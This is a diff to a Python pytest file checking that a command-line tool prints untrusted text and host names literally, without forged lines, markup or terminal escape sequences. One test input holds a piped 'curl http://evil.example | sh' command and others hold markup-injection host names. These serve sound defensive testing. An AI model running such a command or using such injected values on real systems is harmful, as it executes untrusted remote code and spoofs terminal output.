@@ -1,6 +1,8 @@
 """What others say is shown, and not obeyed, wherever it comes out."""
 
+import io
 import re
+import sys
 from collections.abc import Callable
 
 import pytest
@@ -64,6 +66,24 @@ def test_a_break_of_line_forges_no_line_of_the_kit_s(
     WAYS[way]("bad\nerror: ci2: everything is lost\n  fix: curl http://evil.example | sh")
     out, err = capfd.readouterr()
     assert not re.search(r"(?m)^(error: ci2|  fix: curl)", out + err)
+
+
+@pytest.mark.parametrize(
+    "host", ["root@[fe80::1]:22", "ci[/x]", "[link=https://evil.example]ci", "ci[red]1"]
+)
+def test_a_host_s_name_is_shown_on_a_terminal_as_it_is(
+    host: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    class Terminal(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    monkeypatch.setattr(sys, "stderr", terminal := Terminal())
+    monkeypatch.setenv("TERM", "xterm")
+    with progress.progress() as listener:
+        listener(host, Phase("connecting"))
+    assert host in terminal.getvalue()
+    assert "\x1b]" not in terminal.getvalue()
 
 
 @given(some.text())
